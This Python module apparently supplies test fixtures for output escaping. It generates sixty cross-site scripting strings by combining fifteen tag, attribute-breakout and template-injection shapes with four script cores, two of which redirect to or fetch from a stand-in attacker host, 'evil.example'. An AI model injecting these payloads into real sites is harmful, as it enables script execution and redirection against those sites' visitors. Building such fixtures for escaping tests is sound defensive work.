"""Texts that would run as a script if a page did not escape them where it writes them."""

_CORES = ("alert(1)", "window.pwned=1", "location='//evil.example'", "fetch('//evil.example')")
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "javascript:{}",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!--><script>{}</script>-->",
    "{{{{{}}}}}",
    "{{% import os %}}<b onclick={}>",
    "<a href='javascript:{}'>a</a>",
)
#: Sixty of them.
PAYLOADS = tuple(shape.format(core) for shape in _SHAPES for core in _CORES)
